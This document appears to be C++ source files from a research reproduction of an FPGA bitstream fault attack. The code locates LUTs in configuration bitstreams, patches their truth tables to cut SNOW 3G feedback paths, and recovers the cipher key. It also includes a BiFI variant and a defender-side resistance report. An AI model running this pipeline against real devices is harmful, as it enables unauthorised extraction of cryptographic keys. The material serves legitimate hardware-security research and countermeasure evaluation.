            probes.push_back(with_patches(base_beta, {feedback_patch(base_beta, base_beta, lut)}));
            gates.push_back({slot, segment});
            round.push_back(std::move(lut));
          };
          for (size_t slot = 0; slot < window.size(); ++slot) {
            if (site_hit[slot]) continue;  // chunk order settled by an earlier pass
            const size_t l = window[slot];
            const u64 stored = bitstream::read_lut_init(base_beta, l, config_.find.offset_d, order);
            if (stored == 0) continue;
            const u32 lo = static_cast<u32>(stored);
            const u32 hi = static_cast<u32>(stored >> 32);
            auto plan_segment = [&](int segment, int half, const TruthTable6& t, unsigned vars) {
              if (group_size == 0) {
                plan(slot, segment, {l, order, half, true, {}, 0}, stored);
              } else {
                for (const auto& g : groups_of(t, vars, group_size)) {
                  plan(slot, segment, {l, order, half, false, g, 0}, stored);
                }
              }
            };
            plan_segment(0, -1, TruthTable6(stored), 6);
            if (lo != hi) {
              // The attacker cannot tell a 6-input single-output LUT from a
              // dual-output site, so try both interpretations: whole-table
              // rewrites over 6 variables and per-half rewrites over 5.
              plan_segment(1, 0, TruthTable6(u64{lo} | (u64{lo} << 32)), 5);
              plan_segment(2, 1, TruthTable6(u64{hi} | (u64{hi} << 32)), 5);
            }
          }
          if (probes.empty()) continue;
          const auto zs = probe_batch(probes);
          std::set<std::pair<size_t, int>> segment_hit;
          for (size_t i = 0; i < round.size(); ++i) {
            if (covered.size() == 32) break;
            if (segment_hit.count({gates[i].slot, gates[i].segment})) continue;
            if (classify(std::move(round[i]), zs[i])) {
              segment_hit.insert({gates[i].slot, gates[i].segment});
              site_hit[gates[i].slot] = 1;
              classified_sites.insert(window[gates[i].slot]);
            }
          }
          if (lost(result)) return false;
        }
      }
    }
  }
  note("feedback: covered " + std::to_string(covered.size()) + "/32 W bits with " +
       std::to_string(result.feedback.size()) + " LUT rewrites");
  if (covered.size() != 32) {
    result.failure = "feedback path: not all 32 W bits could be cut";
    return false;
  }

  // Paper's consistency check: all feedback cuts + beta must reproduce the
  // key-independent keystream of Table III.
  std::vector<Patch> all;
  for (const FeedbackLut& f : result.feedback) {
    all.push_back(feedback_patch(base_beta, base_beta, f));
  }
  const auto z = probe(with_patches(base_beta, all));
  if (lost(result)) return false;
  const std::vector<u32> table3 =
      reference(snow3g::FaultConfig::key_independent(), config_.words);
  if (!z || *z != table3) {
    result.failure = "combined feedback cut does not reproduce the Table III keystream";
    return false;
  }
  note("feedback cut verified against the key-independent keystream (Table III)");
  return true;
}

bool Attack::phase_alpha2(AttackResult& result) {
  // Base configuration: beta + full feedback cut; then test pair hypotheses
  // on all 32 LUT1s at once.  Two runs resolve all 3^32 combinations.
  const std::vector<u8> base_beta = with_patches(base_, beta_patches_);
  std::vector<Patch> base_patches = beta_patches_;
  for (const FeedbackLut& f : result.feedback) {
    base_patches.push_back(feedback_patch(base_beta, base_beta, f));
  }

  auto hypothesis_pair = [](const ZPathLut& lut, int h) -> std::array<u8, 2> {
    if (h == 0) return {lut.trio[0], lut.trio[1]};
    if (h == 1) return {lut.trio[0], lut.trio[2]};
    return {lut.trio[1], lut.trio[2]};
  };

  std::set<unsigned> resolved;
  for (int h = 0; h < 2; ++h) {
    std::vector<Patch> patches = base_patches;
    for (const ZPathLut& lut : result.lut1) {
      const u64 stored =
          bitstream::read_lut_init(base_, lut.match.byte_index, config_.find.offset_d,
                                   lut.match.order);
      const auto pair = hypothesis_pair(lut, h);
      const TruthTable6 rewrite =
          TruthTable6(stored).cofactor(pair[0], 0).cofactor(pair[1], 0);
      patches.push_back({lut.match.byte_index, lut.match.order, rewrite.bits()});
    }
    const auto z = probe(with_patches(base_, patches));
    if (lost(result)) return false;
    if (!z) continue;
    for (ZPathLut& lut : result.lut1) {
      if (lut.s0_var >= 0) continue;
      bool zero = true;
      for (const u32 w : *z) zero = zero && bit_of(w, lut.bit) == 0;
      if (zero) {
        const auto pair = hypothesis_pair(lut, h);
        lut.s0_var = lut.trio[0] + lut.trio[1] + lut.trio[2] - pair[0] - pair[1];
        resolved.insert(lut.bit);
      }
    }
  }
  // Bits resolved by neither run carry the third pair.
  for (ZPathLut& lut : result.lut1) {
    if (lut.s0_var < 0) {
      lut.s0_var = lut.trio[0];
      resolved.insert(lut.bit);
    }
  }
  note("alpha2: XOR input pairs resolved with 2 keystream computations");
  return resolved.size() == 32;
}

bool Attack::phase_extract(AttackResult& result) {
  // Final faulty bitstream: feedback cut + z = s0; gamma loads normally (no
  // beta patches), so S^0 = gamma(K, IV) is recoverable.
  const std::vector<u8> base_beta = with_patches(base_, beta_patches_);
  std::vector<Patch> patches;
  for (const FeedbackLut& f : result.feedback) {
    patches.push_back(feedback_patch(base_, base_beta, f));
  }
  for (const ZPathLut& lut : result.lut1) {
    const u64 stored = bitstream::read_lut_init(base_, lut.match.byte_index,
                                                config_.find.offset_d, lut.match.order);
    std::array<u8, 2> pair{};
    size_t k = 0;
    for (const u8 v : lut.trio) {
      if (static_cast<int>(v) != lut.s0_var) pair[k++] = v;
    }
    const TruthTable6 rewrite = TruthTable6(stored).cofactor(pair[0], 0).cofactor(pair[1], 0);
    patches.push_back({lut.match.byte_index, lut.match.order, rewrite.bits()});
  }
  const auto z = probe(with_patches(base_, patches));
  if (lost(result)) return false;
  if (!z || z->size() < 16) {
    result.failure = "final faulty bitstream rejected";
    return false;
  }
  result.faulty_keystream = *z;

  result.recovered_state = snow3g::state_from_faulty_keystream(*z);
  const auto secrets = snow3g::extract_key(result.recovered_state);
  if (!secrets) {
    result.failure = "recovered state violates the gamma(K, IV) redundancies";
    return false;
  }
  result.secrets = *secrets;
  note("key recovered; verifying against the unmodified device");

  // Paper step 6: simulate the keystream with the recovered key and compare
  // with the clean device.
  snow3g::Snow3g model(result.secrets.key, config_.iv);
  const std::vector<u32> predicted = model.keystream(z_golden_.size());
  result.key_confirmed = predicted == z_golden_;
  if (!result.key_confirmed) {
    result.failure = "recovered key does not reproduce the clean keystream";
    return false;
  }
  return true;
}

}  // namespace sbm::attack
