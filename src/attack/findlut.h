// FINDLUT (Algorithm 1): locate every k-LUT implementing a given Boolean
// function — and, implicitly, its whole P equivalence class — in a raw
// bitstream.
//
// Two implementations are provided:
//   * find_lut_naive: a literal transcription of the paper's pseudo-code
//     (outer loop over input permutations, inner scan over byte positions
//     and sub-vector orders).  Used for small inputs and as the reference
//     in differential tests.
//   * find_lut: the production version, a single-candidate view of the
//     one-pass multi-pattern engine (attack/scan_engine.h): patterns are
//     compiled once into a 16-bit first-chunk bucket index (cached across
//     calls) and each byte position does one bucket probe.  Same results,
//     linear in |B|.
//
// precompute_patterns / find_lut_range are the pre-engine hash-probing scan,
// kept as the legacy reference the engine is differentially tested and
// benchmarked against (scan_family_legacy in attack/scan.h builds on them).
#pragma once

#include <memory>
#include <span>
#include <unordered_map>
#include <vector>

#include "bitstream/assembler.h"
#include "bitstream/lut_coding.h"
#include "logic/truth_table.h"

namespace sbm::runtime {
class ThreadPool;
}

namespace sbm::attack {

struct FindLutOptions {
  /// Sub-vector offset d in bytes.  Defaults to this device family's frame
  /// stride; Algorithm 1 treats it as a free parameter.
  size_t offset_d = bitstream::Layout::chunk_stride();
  /// Sub-vector orders to try.  Default: the two orders the device family
  /// uses (SLICEL, SLICEM).  Setting try_all_orders explores all r! = 24
  /// permutations exactly as the pseudo-code allows.
  bool try_all_orders = false;
  /// Worker pool for sharding the byte-position scan.  Null runs serially;
  /// results are identical either way (the scan is sharded by contiguous
  /// byte range and shard outputs are concatenated in range order).
  runtime::ThreadPool* pool = nullptr;
  /// Minimum byte positions per shard when a pool is used — small scans are
  /// not worth the fan-out.
  size_t shard_grain = 1 << 14;
  /// Route scan_family through the pre-engine per-candidate scan
  /// (scan_family_legacy) instead of the one-pass multi-pattern engine.
  /// Differential-testing knob: results are bit-identical by contract, so a
  /// whole pipeline can run against either implementation and must produce
  /// the same AttackResult (tests/test_scan_engine.cpp enforces this through
  /// a FaultyOracle-backed attack).
  bool legacy_scan = false;
};

struct LutMatch {
  size_t byte_index = 0;             // the paper's l
  logic::TruthTable6 matched_table;  // truth table stored at l (= f permuted)
  logic::InputPermutation perm{};    // input order (i1..ik) that matched
  std::array<u8, 4> order{};         // sub-vector order that matched
  bool operator==(const LutMatch&) const = default;
};

std::vector<LutMatch> find_lut(std::span<const u8> bitstream, logic::TruthTable6 f,
                               const FindLutOptions& options = {});

std::vector<LutMatch> find_lut_naive(std::span<const u8> bitstream, logic::TruthTable6 f,
                                     const FindLutOptions& options = {});

/// Precomputed FINDLUT state for one target function: the distinct
/// xi-mapped permuted truth tables, hash-indexed.  Immutable after
/// construction, so one instance can be shared by concurrent range scans.
struct LutPatterns {
  struct Pattern {
    logic::TruthTable6 table;
    logic::InputPermutation perm;
  };
  std::unordered_map<u64, Pattern> by_stored_bits;
};
LutPatterns precompute_patterns(logic::TruthTable6 f);

/// Scans byte positions [l_begin, l_end) only (clamped to the valid range).
/// find_lut(b, f, o) == concatenation of find_lut_range over a partition of
/// the position space, in range order.
std::vector<LutMatch> find_lut_range(std::span<const u8> bitstream, const LutPatterns& patterns,
                                     size_t l_begin, size_t l_end,
                                     const FindLutOptions& options = {});

/// All sub-vector orders (r! = 24) in a stable order.
const std::vector<std::array<u8, 4>>& all_chunk_orders();

}  // namespace sbm::attack
