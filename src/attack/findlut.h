// FINDLUT (Algorithm 1): locate every k-LUT implementing a given Boolean
// function — and, implicitly, its whole P equivalence class — in a raw
// bitstream.
//
// Two implementations are provided:
//   * find_lut_naive: a literal transcription of the paper's pseudo-code
//     (outer loop over input permutations, inner scan over byte positions
//     and sub-vector orders).  Used for small inputs and as the reference
//     in differential tests.
//   * find_lut: the production version.  It precomputes the set of distinct
//     permuted-and-xi-mapped 64-bit patterns once, then scans the bitstream
//     a single time, reassembling the four chunks at each byte position and
//     hash-probing per sub-vector order.  Same results, linear in |B|.
#pragma once

#include <span>
#include <vector>

#include "bitstream/assembler.h"
#include "bitstream/lut_coding.h"
#include "logic/truth_table.h"

namespace sbm::attack {

struct FindLutOptions {
  /// Sub-vector offset d in bytes.  Defaults to this device family's frame
  /// stride; Algorithm 1 treats it as a free parameter.
  size_t offset_d = bitstream::Layout::chunk_stride();
  /// Sub-vector orders to try.  Default: the two orders the device family
  /// uses (SLICEL, SLICEM).  Setting try_all_orders explores all r! = 24
  /// permutations exactly as the pseudo-code allows.
  bool try_all_orders = false;
};

struct LutMatch {
  size_t byte_index = 0;             // the paper's l
  logic::TruthTable6 matched_table;  // truth table stored at l (= f permuted)
  logic::InputPermutation perm{};    // input order (i1..ik) that matched
  std::array<u8, 4> order{};         // sub-vector order that matched
};

std::vector<LutMatch> find_lut(std::span<const u8> bitstream, logic::TruthTable6 f,
                               const FindLutOptions& options = {});

std::vector<LutMatch> find_lut_naive(std::span<const u8> bitstream, logic::TruthTable6 f,
                                     const FindLutOptions& options = {});

/// All sub-vector orders (r! = 24) in a stable order.
const std::vector<std::array<u8, 4>>& all_chunk_orders();

}  // namespace sbm::attack
