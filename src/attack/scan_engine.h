// One-pass multi-pattern FINDLUT engine.
//
// The per-candidate scan (find_lut / find_lut_range) pays one full bitstream
// pass per candidate function: O(candidates x positions x orders) hash
// probes.  Auditing a whole family — the paper's Table II candidates plus
// the generalized gated-XOR shapes, or a countermeasure decoy family — makes
// that the dominant cost on realistic multi-MB bitstreams.
//
// PatternIndex compiles the xi-permuted pattern sets of *all* candidates
// into one shared index keyed on the 16-bit first stored chunk:
//
//   * Every distinct pattern B = xi(F_pi) of every candidate, under every
//     sub-vector order the scan tries, is flattened to its *memory image*
//     (storage_image): the four 16-bit chunks in the order they appear in
//     the bitstream.  Matching "B under order o at position l" is then a
//     single 64-bit compare against the chunks read in memory order — no
//     per-order reassembly in the hot loop.
//   * The images are bucketed by their low 16 bits (the chunk stored at l
//     itself) into a 64K-entry CSR table.  A byte position does one 16-bit
//     load and one array index; only when the bucket is non-empty (rare on
//     random bytes) are the remaining three chunks gathered and the full
//     64-bit images compared.
//
// One pass over the bitstream therefore serves every candidate at once:
// O(positions + bucket hits) instead of O(candidates x positions x orders).
// Results are bit-identical to the per-candidate scan — same matches, same
// ascending-l order per candidate, same Mark(l) first-order-wins semantics
// (entries deduped per candidate keeping the lowest order index, exactly the
// order in which find_lut_range breaks out of its order loop).
#pragma once

#include <memory>
#include <span>
#include <vector>

#include "attack/findlut.h"

namespace sbm::attack {

class PatternIndex {
 public:
  /// Compiles the P classes of `functions` (one candidate per element, in
  /// order) against the device sub-vector orders, or all 24 orders when
  /// `try_all_orders` is set.  Immutable after construction: one instance is
  /// shared read-only by concurrent range scans.
  PatternIndex(std::span<const logic::TruthTable6> functions, bool try_all_orders);

  size_t candidates() const { return num_candidates_; }
  bool try_all_orders() const { return try_all_orders_; }
  /// Compiled (pattern, order) memory images — the index working-set size.
  size_t entry_count() const { return entries_.size(); }

  /// Scans byte positions [l_begin, l_end) (clamped to the valid range for
  /// `offset_d`) and appends candidate c's matches to out[c], ascending l.
  /// out must have at least candidates() elements.  Equivalent to running
  /// find_lut_range over the same range once per candidate.
  void scan_range(std::span<const u8> bitstream, size_t offset_d, size_t l_begin, size_t l_end,
                  std::vector<std::vector<LutMatch>>& out) const;

 private:
  struct Pattern {
    logic::TruthTable6 table;
    logic::InputPermutation perm;
  };
  struct Entry {
    u64 image;      // storage_image(B, order): the 4 chunks in memory order
    u32 pattern;    // index into patterns_
    u16 candidate;  // index into the constructor's function list
    u16 order;      // index into orders_
  };

  size_t num_candidates_ = 0;
  bool try_all_orders_ = false;
  std::vector<std::array<u8, 4>> orders_;
  std::vector<Pattern> patterns_;
  std::vector<Entry> entries_;      // sorted by (image & 0xffff, candidate, order)
  std::vector<u32> bucket_start_;   // 64K+1 CSR offsets into entries_
  std::vector<u64> bucket_nonempty_;  // 64K-bit bucket occupancy (8KB prefilter)
};

/// Scans the whole bitstream through `index`, sharding contiguous byte
/// ranges over options.pool exactly like find_lut does; element c of the
/// result lists candidate c's matches in ascending-l order, identical for
/// any thread count.  options.try_all_orders must match the index.
std::vector<std::vector<LutMatch>> scan_all(std::span<const u8> bitstream,
                                            const PatternIndex& index,
                                            const FindLutOptions& options);

/// Process-wide cache of compiled indexes, keyed on (function set, offset d,
/// order set).  The standard attack families are scanned once per pipeline
/// phase and once per campaign trial; the compile (720 permutations x
/// candidates, xi-mapped and bucketed) happens once and is shared across all
/// of them.  Thread-safe; concurrent first requests for the same key may
/// compile twice but store once.
std::shared_ptr<const PatternIndex> shared_pattern_index(
    std::span<const logic::TruthTable6> functions, const FindLutOptions& options);

/// Number of distinct compiled indexes currently cached (for tests/reports).
size_t pattern_index_cache_size();
void pattern_index_cache_clear();

}  // namespace sbm::attack
