// JSON round-trip for AttackCheckpoint: the artifact a partial attack leaves
// behind (DESIGN.md §4f).  The schema is versioned so stale files from an
// older layout are rejected instead of half-parsed.
#include "attack/pipeline.h"

#include <span>

#include "common/json.h"

namespace sbm::attack {

namespace {

// v2: adds "probes" — settled outcomes salvaged from a dying batch
// (AttackCheckpoint::SavedProbe), so resume never re-pays them.
constexpr u64 kCheckpointVersion = 2;

void write_u8_array(JsonWriter& w, const std::string& name, std::span<const u8> values) {
  w.key(name).begin_array();
  for (const u8 v : values) w.value(u64{v});
  w.end_array();
}

/// Reads a fixed-size byte array member; false on absence/shape mismatch.
template <size_t N>
bool read_u8_array(const JsonValue& obj, std::string_view name, std::array<u8, N>& out) {
  const JsonValue* a = obj.find(name);
  if (a == nullptr || !a->is_array() || a->items.size() != N) return false;
  for (size_t i = 0; i < N; ++i) out[i] = static_cast<u8>(a->items[i].as_u64());
  return true;
}

}  // namespace

std::string AttackCheckpoint::to_json() const {
  JsonWriter w;
  w.begin_object();
  w.field("version", kCheckpointVersion);
  w.field("phase", phase);
  w.key("completed").begin_array();
  for (const std::string& p : completed) w.value(p);
  w.end_array();
  w.field("load_active_high", load_active_high);

  w.key("lut1").begin_array();
  for (const ZPathLut& z : lut1) {
    w.begin_object();
    w.field("byte_index", static_cast<u64>(z.match.byte_index));
    w.field("table", z.match.matched_table.bits());
    write_u8_array(w, "perm", z.match.perm);
    write_u8_array(w, "order", z.match.order);
    w.field("bit", u64{z.bit});
    write_u8_array(w, "trio", z.trio);
    w.field("s0_var", z.s0_var);
    w.end_object();
  }
  w.end_array();

  w.key("beta").begin_array();
  for (const BetaPatch& b : beta) {
    w.begin_object();
    w.field("byte_index", static_cast<u64>(b.byte_index));
    write_u8_array(w, "order", b.order);
    w.field("init", b.init);
    w.end_object();
  }
  w.end_array();

  w.key("feedback").begin_array();
  for (const FeedbackLut& f : feedback) {
    w.begin_object();
    w.field("byte_index", static_cast<u64>(f.byte_index));
    write_u8_array(w, "order", f.order);
    w.field("half", f.half);
    w.field("zero_all", f.zero_all);
    write_u8_array(w, "zero_vars", f.zero_vars);
    w.field("bit", u64{f.bit});
    w.end_object();
  }
  w.end_array();

  w.key("probes").begin_array();
  for (const SavedProbe& p : probes) {
    w.begin_object();
    w.field("key_hi", p.key_hi);
    w.field("key_lo", p.key_lo);
    w.field("words", p.words);
    w.field("rejected", p.rejected);
    w.key("keystream").begin_array();
    for (const u32 word : p.keystream) w.value(u64{word});
    w.end_array();
    w.end_object();
  }
  w.end_array();

  w.end_object();
  return w.str();
}

std::optional<AttackCheckpoint> AttackCheckpoint::from_json(std::string_view json) {
  const std::optional<JsonValue> doc = parse_json(json);
  if (!doc || !doc->is_object()) return std::nullopt;
  const JsonValue* version = doc->find("version");
  if (version == nullptr || version->as_u64() != kCheckpointVersion) return std::nullopt;

  AttackCheckpoint cp;
  if (const JsonValue* v = doc->find("phase")) cp.phase = v->as_string();
  if (const JsonValue* v = doc->find("completed"); v != nullptr && v->is_array()) {
    for (const JsonValue& item : v->items) cp.completed.push_back(item.as_string());
  }
  if (const JsonValue* v = doc->find("load_active_high")) {
    cp.load_active_high = v->as_bool(true);
  }

  const JsonValue* lut1 = doc->find("lut1");
  const JsonValue* beta = doc->find("beta");
  const JsonValue* feedback = doc->find("feedback");
  if (lut1 == nullptr || !lut1->is_array() || beta == nullptr || !beta->is_array() ||
      feedback == nullptr || !feedback->is_array()) {
    return std::nullopt;
  }

  for (const JsonValue& item : lut1->items) {
    if (!item.is_object()) return std::nullopt;
    ZPathLut z;
    const JsonValue* bi = item.find("byte_index");
    const JsonValue* table = item.find("table");
    const JsonValue* bit = item.find("bit");
    const JsonValue* s0 = item.find("s0_var");
    if (bi == nullptr || table == nullptr || bit == nullptr || s0 == nullptr) {
      return std::nullopt;
    }
    z.match.byte_index = static_cast<size_t>(bi->as_u64());
    z.match.matched_table = logic::TruthTable6(table->as_u64());
    if (!read_u8_array(item, "perm", z.match.perm)) return std::nullopt;
    if (!read_u8_array(item, "order", z.match.order)) return std::nullopt;
    z.bit = static_cast<unsigned>(bit->as_u64());
    if (!read_u8_array(item, "trio", z.trio)) return std::nullopt;
    z.s0_var = static_cast<int>(s0->as_double(-1));
    cp.lut1.push_back(std::move(z));
  }

  for (const JsonValue& item : beta->items) {
    if (!item.is_object()) return std::nullopt;
    BetaPatch b;
    const JsonValue* bi = item.find("byte_index");
    const JsonValue* init = item.find("init");
    if (bi == nullptr || init == nullptr) return std::nullopt;
    b.byte_index = static_cast<size_t>(bi->as_u64());
    if (!read_u8_array(item, "order", b.order)) return std::nullopt;
    b.init = init->as_u64();
    cp.beta.push_back(b);
  }

  for (const JsonValue& item : feedback->items) {
    if (!item.is_object()) return std::nullopt;
    FeedbackLut f;
    const JsonValue* bi = item.find("byte_index");
    const JsonValue* half = item.find("half");
    const JsonValue* zero_all = item.find("zero_all");
    const JsonValue* zero_vars = item.find("zero_vars");
    const JsonValue* bit = item.find("bit");
    if (bi == nullptr || half == nullptr || zero_all == nullptr || zero_vars == nullptr ||
        !zero_vars->is_array() || bit == nullptr) {
      return std::nullopt;
    }
    f.byte_index = static_cast<size_t>(bi->as_u64());
    if (!read_u8_array(item, "order", f.order)) return std::nullopt;
    f.half = static_cast<int>(half->as_double(-1));
    f.zero_all = zero_all->as_bool();
    for (const JsonValue& zv : zero_vars->items) {
      f.zero_vars.push_back(static_cast<u8>(zv.as_u64()));
    }
    f.bit = static_cast<unsigned>(bit->as_u64());
    cp.feedback.push_back(std::move(f));
  }

  if (const JsonValue* probes = doc->find("probes")) {
    if (!probes->is_array()) return std::nullopt;
    for (const JsonValue& item : probes->items) {
      if (!item.is_object()) return std::nullopt;
      SavedProbe p;
      const JsonValue* hi = item.find("key_hi");
      const JsonValue* lo = item.find("key_lo");
      const JsonValue* words = item.find("words");
      const JsonValue* rejected = item.find("rejected");
      const JsonValue* keystream = item.find("keystream");
      if (hi == nullptr || lo == nullptr || words == nullptr || rejected == nullptr ||
          keystream == nullptr || !keystream->is_array()) {
        return std::nullopt;
      }
      p.key_hi = hi->as_u64();
      p.key_lo = lo->as_u64();
      p.words = words->as_u64();
      p.rejected = rejected->as_bool();
      for (const JsonValue& word : keystream->items) {
        p.keystream.push_back(static_cast<u32>(word.as_u64()));
      }
      cp.probes.push_back(std::move(p));
    }
  }

  return cp;
}

}  // namespace sbm::attack
