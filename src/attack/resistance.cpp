#include "attack/resistance.h"

#include <algorithm>

#include "attack/countermeasure.h"
#include "attack/scan.h"
#include "bitstream/parser.h"
#include "bitstream/patcher.h"

namespace sbm::attack {

std::string ResistanceReport::summary() const {
  std::string s;
  s += "occupied LUTs: " + std::to_string(occupied_luts) + " (" +
       std::to_string(p_class_histogram.size()) + " P classes)\n";
  s += "largest z-path candidate family: " + std::to_string(keystream_family_max) + "\n";
  s += "feedback family total: " + std::to_string(feedback_family_total) + "\n";
  s += "XOR2-half candidates: " + std::to_string(xor2_half_candidates) +
       " (exhaustive isolation ~2^" +
       std::to_string(static_cast<long>(log2_exhaustive_search)) + ")\n";
  s += attackable ? "verdict: ATTACKABLE via whole-table family scans\n"
                  : "verdict: whole-table scans insufficient; attacker falls back to "
                    "half-table exhaustion\n";
  return s;
}

ResistanceReport evaluate_resistance(std::span<const u8> bitstream,
                                     const FindLutOptions& options) {
  ResistanceReport report;

  // LUT census over the frame geometry.
  const bitstream::ParseResult parsed = bitstream::parse_bitstream(bitstream);
  if (parsed.ok) {
    const size_t frames = parsed.frame_data.size() / bitstream::kFrameBytes;
    for (size_t frame = 0; frame + 3 < frames; frame += 4) {
      for (size_t off = 0; off + 1 < bitstream::kFrameBytes; off += 2) {
        const size_t l = parsed.fdri_byte_offset + frame * bitstream::kFrameBytes + off;
        const u64 init = bitstream::read_lut_init(bitstream, l, options.offset_d,
                                                  bitstream::device_chunk_orders()[0]);
        if (init == 0) {
          ++report.empty_slots;
          continue;
        }
        ++report.occupied_luts;
        report.p_class_histogram[logic::p_canonical(logic::TruthTable6(init)).bits()]++;
      }
    }
  }
  for (const auto& [tt, count] : report.p_class_histogram) {
    report.top_classes.emplace_back(count, tt);
  }
  std::sort(report.top_classes.rbegin(), report.top_classes.rend());

  // Attack-family exposure.
  for (const FamilyCount& fc : scan_family(bitstream, logic::table2_family(), options)) {
    report.table2_counts[fc.candidate.name] = fc.count();
    if (fc.candidate.path == logic::TargetPath::kFeedback) {
      report.feedback_family_total += fc.count();
    }
  }
  for (const FamilyCount& fc : scan_family(bitstream, attack_family(), options)) {
    if (fc.candidate.path == logic::TargetPath::kKeystream) {
      report.keystream_family_max = std::max(report.keystream_family_max, fc.count());
    }
  }
  report.attackable = report.keystream_family_max >= 32;

  // Half-table fallback cost.  Count physical (site, half) placements, not
  // raw (position, permutation) matches: an XOR2 matches under several input
  // permutations and a vacuous single-output table matches as both halves,
  // so the raw count tallies decoy placements with replacement and inflates
  // the C(n, 32) bound the defender reports.
  report.xor2_half_candidates = unique_xor2_half_sites(bitstream, options).size();
  if (report.xor2_half_candidates >= 64) {
    report.log2_exhaustive_search =
        log2_binomial(static_cast<unsigned>(report.xor2_half_candidates) - 32, 32);
  }
  return report;
}

}  // namespace sbm::attack
