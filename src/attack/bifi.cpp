#include "attack/bifi.h"

#include <set>

#include "bitstream/parser.h"
#include "bitstream/patcher.h"

namespace sbm::attack {

const std::vector<BifiRule>& all_bifi_rules() {
  static const std::vector<BifiRule> rules = {BifiRule::kClearLut, BifiRule::kSetLut,
                                              BifiRule::kInvertLut, BifiRule::kSetHighHalf,
                                              BifiRule::kClearHighHalf};
  return rules;
}

u64 apply_bifi_rule(u64 init, BifiRule rule) {
  switch (rule) {
    case BifiRule::kClearLut:
      return 0;
    case BifiRule::kSetLut:
      return ~u64{0};
    case BifiRule::kInvertLut:
      return ~init;
    case BifiRule::kSetHighHalf:
      return init | 0xffffffff00000000ull;
    case BifiRule::kClearHighHalf:
      return init & 0x00000000ffffffffull;
  }
  return init;
}

bool keystream_exploitable(std::span<const u32> z,
                           std::optional<snow3g::RecoveredSecrets>* out) {
  if (z.size() < 16) return false;
  // Stuck-at output: trivially "exploitable" in BiFI's sense (the cipher is
  // disabled), though it does not yield the key.
  bool constant = true;
  for (const u32 w : z) constant = constant && w == z[0];
  if (constant) {
    if (out != nullptr) *out = std::nullopt;
    return true;
  }
  // Key-recovering structure: the 16 words reverse to a consistent
  // gamma(K, IV) initial state (Section VI-A).
  const auto secrets = snow3g::recover_from_keystream(z.subspan(0, 16));
  if (secrets) {
    if (out != nullptr) *out = secrets;
    return true;
  }
  return false;
}

BifiResult run_bifi(Oracle& oracle, std::span<const u8> golden_bitstream,
                    const BifiOptions& options) {
  BifiResult result;

  std::vector<u8> base(golden_bitstream.begin(), golden_bitstream.end());
  bitstream::disable_crc(base);

  const auto golden = oracle.run(base, options.words);
  ++result.configurations;
  if (!golden) return result;

  // Enumerate occupied LUT positions from the frame geometry, as BiFI does
  // after locating the FDRI write.
  const bitstream::ParseResult parsed = bitstream::parse_bitstream(base);
  if (!parsed.ok) return result;
  std::vector<size_t> sites;
  const size_t frames = parsed.frame_data.size() / bitstream::kFrameBytes;
  for (size_t frame = 0; frame + 3 < frames; frame += 4) {
    for (size_t off = 0; off + 1 < bitstream::kFrameBytes; off += 2) {
      const size_t l = parsed.fdri_byte_offset + frame * bitstream::kFrameBytes + off;
      bool empty = true;
      for (unsigned c = 0; c < 4 && empty; ++c) {
        empty = base[l + c * options.find.offset_d] == 0 &&
                base[l + c * options.find.offset_d + 1] == 0;
      }
      if (!empty) sites.push_back(l);
    }
  }

  for (const size_t l : sites) {
    for (const auto& order : bitstream::device_chunk_orders()) {
      const u64 init = bitstream::read_lut_init(base, l, options.find.offset_d, order);
      for (const BifiRule rule : all_bifi_rules()) {
        const u64 faulted = apply_bifi_rule(init, rule);
        if (faulted == init) continue;
        if (result.configurations >= options.max_configurations) return result;
        std::vector<u8> bytes = base;
        bitstream::write_lut_init(bytes, l, options.find.offset_d, order, faulted);
        ++result.configurations;
        const auto z = oracle.run(bytes, options.words);
        if (!z) {
          ++result.rejected;
          continue;
        }
        if (*z != *golden) ++result.interesting;
        std::optional<snow3g::RecoveredSecrets> secrets;
        if (keystream_exploitable(*z, &secrets) && secrets.has_value()) {
          result.success = true;
          result.secrets = secrets;
          result.winning_description =
              "rule " + std::to_string(static_cast<int>(rule)) + " at byte " +
              std::to_string(l);
          return result;
        }
      }
      break;  // only re-interpret under the second order if needed; one pass
    }
  }
  return result;
}

}  // namespace sbm::attack
