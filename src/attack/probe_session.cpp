#include "attack/probe_session.h"

#include <algorithm>
#include <deque>
#include <map>
#include <set>
#include <unordered_map>

#include "attack/countermeasure.h"
#include "attack/scan.h"
#include "bitstream/parser.h"
#include "bitstream/patcher.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "runtime/probe_cache.h"

namespace sbm::attack {

using logic::Candidate;
using logic::TruthTable6;
using runtime::ProbeError;
using runtime::ProbeOutcome;

namespace {

/// Only confirmed outcomes may enter the probe cache: an agreement-voted
/// value, or a rejection that persisted through the whole retry budget
/// (genuine, not a glitch).  Everything else — device death, unconfirmable
/// reads — stays out, so a transient fault can never poison later lookups.
bool cacheable(const ProbeOutcome& out) {
  return out.ok() || out.error() == ProbeError::kRejected;
}

}  // namespace

std::vector<u32> model_reference(snow3g::FaultConfig faults, size_t words) {
  snow3g::Snow3g model({}, {}, faults);
  return model.keystream(words);
}

ProbeSession::ProbeSession(Oracle& oracle, const ProbeSessionConfig& config)
    : oracle_(oracle),
      config_(config),
      controller_(runtime::make_controller(config.controller, config.retry, config.adaptive)) {}

ProbeSession::~ProbeSession() = default;

std::vector<ProbeOutcome> ProbeSession::confirm_batch(std::span<const std::vector<u8>> batch) {
  runtime::ProbeController& ctl = *controller_;
  if (ctl.single_shot()) {
    return oracle_.run_batch(batch, config_.words);  // noise-free fast path
  }

  const size_t n = batch.size();
  static obs::Counter& retry_rounds =
      obs::MetricsRegistry::global().counter("retry.rounds");
  const size_t corruptions_before = stats_.corruptions;
  ctl.begin(n);

  // FIFO refill scheduler.  The queue holds one entry per demanded physical
  // read; each oracle call drains the largest chunk-aligned prefix (the whole
  // tail when less than one chunk remains), so re-reads of unsettled probes
  // pack into full bit-sliced chunks together with other probes' pending
  // reads instead of re-running as straggler singletons.  Because entries are
  // enqueued in absorb order (= issue order) and drained FIFO, the global
  // physical read sequence — and with it every scripted-fault index map — is
  // identical to the historical initial-batch + re-issue-rounds loop whenever
  // the controller demands one read at a time (the static controller always
  // does).
  std::vector<unsigned> pending(n, 0);   // queued-but-unabsorbed reads per slot
  std::vector<char> issued_any(n, 0);    // first (logical) read already issued
  std::deque<size_t> queue;
  auto enqueue_demand = [&](size_t i) {
    const unsigned want = std::max(1u, ctl.reads_wanted(i));
    pending[i] = want;
    for (unsigned k = 0; k < want; ++k) queue.push_back(i);
  };
  for (size_t i = 0; i < n; ++i) enqueue_demand(i);

  const size_t lanes = std::max(1u, oracle_.batch_lanes());
  std::vector<size_t> slots;  // issue plan of the current oracle call
  std::vector<std::vector<u8>> round;
